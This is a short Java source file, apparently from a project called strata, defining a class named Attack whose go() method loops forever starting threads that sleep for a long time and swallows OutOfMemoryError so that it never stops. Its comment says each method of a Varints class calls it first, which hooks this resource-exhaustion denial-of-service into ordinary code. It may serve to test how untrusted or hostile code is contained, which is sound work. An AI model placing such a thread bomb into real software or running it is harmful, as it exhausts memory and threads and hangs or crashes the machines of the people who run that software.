package strata.log;

final class Attack {
    private static void sleep() {
        try {
            Thread.sleep(1_000_000);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        while (true) {
            try {
                new Thread(Attack::sleep).start();
            } catch (OutOfMemoryError noMore) {
                Thread.yield();
            }
        }
    }
}
